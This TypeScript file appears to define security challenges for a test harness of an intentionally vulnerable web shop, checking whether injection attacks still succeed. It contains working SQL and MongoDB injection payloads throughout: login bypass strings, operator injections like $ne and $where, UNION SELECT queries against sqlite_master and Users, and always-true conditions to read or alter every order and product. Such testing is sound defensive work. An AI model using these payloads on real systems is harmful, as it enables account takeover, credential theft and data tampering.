import { guestForm, productForm, orderItem } from '../../deployment/deployment.ts';
import { searchAttempts } from './search-requests.ts';
import {
  anyReply,
  changesState,
  readProduct,
  containsToken,
  replyContains,
  isSuccess,
  type Challenge,
  type ChallengeContext,
  type Attempt,
} from './challenge.ts';

/** What breaks out of a query where words are pasted into one, in SQL and in MongoDB. */
const escapes = (email: string) => [
  { email: `${email}'--`, password: 'x' },
  { email: `' OR 1=1--`, password: 'x' },
  { email, password: `' OR '1'='1` },
  { email, password: `' || '1'=='1` },
  { email: { $eq: email }, password: { $ne: null } },
  { email, password: { $ne: null } },
  { email: { $gt: '' }, password: { $gt: '' } },
  { email: { $regex: '^' }, password: { $regex: '^' } },
  { email: [email], password: [''] },
  { 'email[$ne]': 'x', 'password[$ne]': 'x' },
  { $where: 'true', email, password: 'x' },
];
const logIn = (body: unknown): Attempt => ['post', '/api/users/login', { body }];
const breakIn = (shop: ChallengeContext, email: string) =>
  anyReply(shop, escapes(email).map(logIn), containsToken);

const unions = [
  `')) UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master--`,
  `' UNION SELECT id,email,password FROM Users--`,
  `'; return db.getCollectionNames(); var x='`,
  '.*',
  '$where',
];
/** Words that are to be taken for commands. */
export const injection: readonly Challenge[] = [
  {
    name: 'Login Admin',
    attack: 'sign in as the admin with operators, quotes and comments instead of a password',
    successSign: 'a token',
    isSolved: (shop) => breakIn(shop, shop.admin.email),
  },
  {
    name: 'Login Jim',
    attack: 'the same with a member whose e-mail is known',
    successSign: 'a token',
    isSolved: (shop) => breakIn(shop, shop.member.email),
  },
  {
    name: 'Login Bender',
    attack: 'the same with a chef, in capitals and with spaces around',
    successSign: 'a token',
    isSolved: (shop) => breakIn(shop, ` ${shop.chef.email.toUpperCase()} `),
  },
  {
    name: 'Ephemeral Accountant',
    attack: 'sign in as someone who was never registered, made up on the way',
    successSign: 'a token',
    isSolved: (shop) => {
      const email = 'accountant@example.com';
      const made = { _id: 'f'.repeat(24), email, isAdmin: true, passwordHash: '', tokenVersion: 0 };
      const union = `' UNION SELECT * FROM (SELECT 15 AS id, '${email}' AS email)--`;
      return anyReply(
        shop,
        [...escapes(email), { ...made, password: '' }, { email: union, password: 'x' }].map(logIn),
        containsToken,
      );
    },
  },
  {
    name: 'Database Schema',
    attack: 'ask every search and filter for what the database is made of',
    successSign: 'a name that only the database knows',
    isSolved: (shop) =>
      anyReply(
        shop,
        searchAttempts(shop, unions),
        replyContains(/passwordHash|tokenVersion|stockMoves|ratingSum|sqlite/),
      ),
  },
  {
    name: 'User Credentials',
    attack: 'ask every search and filter for accounts',
    successSign: 'a hash, or a member’s e-mail',
    isSolved: (shop) =>
      anyReply(
        shop,
        searchAttempts(shop, unions),
        (reply) => replyContains(/\$2[aby]\$/)(reply) || replyContains(shop.member.email)(reply),
      ),
  },
  {
    name: 'Christmas Special',
    attack: 'order a draft and a deleted item',
    successSign: 'an order',
    isSolved: async (shop) => {
      const { market, chef, member } = shop;
      const draft = (await market.call('post', '/api/products', { token: chef.token })).body as {
        _id: string;
      };
      const gone = await market.createProduct(chef);
      await market.call('delete', `/api/products/${gone._id}`, { token: chef.token });
      const lines = [draft, gone].map((item) => [orderItem(item)]);
      const tries = lines.flatMap((orderItems): Attempt[] => [
        ['post', '/api/orders/guest', { body: guestForm(orderItems) }],
        [
          'post',
          '/api/orders',
          { body: { orderItems, deleted: false, published: true }, token: member.token },
        ],
      ]);
      return anyReply(shop, tries, isSuccess);
    },
  },
  {
    name: 'NoSQL Exfiltration',
    attack: 'read every order with a condition that is always true instead of a number',
    successSign: 'an order',
    isSolved: (shop) => {
      const conditions = [`' || true || '`, '{"$ne":null}', '[$ne]', '*', '.*', `${shop.order._id}' || '1`];
      const paths = conditions.flatMap((words) => {
        const id = encodeURIComponent(words);
        return [`/api/orders/guest/${id}`, `/api/orders/${id}`, `/api/orders/${id}/${shop.thief._id}`];
      });
      const tries = paths.map((path): Attempt => ['get', path, { token: shop.thief.token }]);
      return anyReply(shop, tries, replyContains('"orderItems"'));
    },
  },
  {
    name: 'NoSQL Manipulation',
    attack: 'change many items or reviews at once with a condition for an id',
    successSign: 'an item that changed',
    isSolved: (shop) => {
      const id = { $ne: -1 };
      const everything = encodeURIComponent(JSON.stringify(id));
      const body = {
        id,
        _id: id,
        rating: 1,
        comment: 'the same for all',
        ...productForm({ name: 'Taken over' }),
      };
      const { token } = shop.thief;
      const tries: Attempt[] = [
        ['post', `/api/products/${everything}/reviews`, { body, token }],
        ['patch', '/api/products/reviews', { body, token }],
        ['put', `/api/products/${everything}`, { body, token }],
        ['put', `/api/products/${everything}`, { body, token: shop.otherChef.token }],
        ['put', `/api/products/${everything}/0`, { body, token: shop.otherChef.token }],
        ['delete', `/api/products/${everything}`, { token: shop.otherChef.token }],
      ];
      return changesState(shop, tries, async ({ market, ...rest }) => [
        await readProduct({ market, ...rest }),
        await market.collection('reviews').countDocuments(),
        await market.collection('products').countDocuments({ name: { $ne: 'Taken over' } }),
      ]);
    },
  },
];
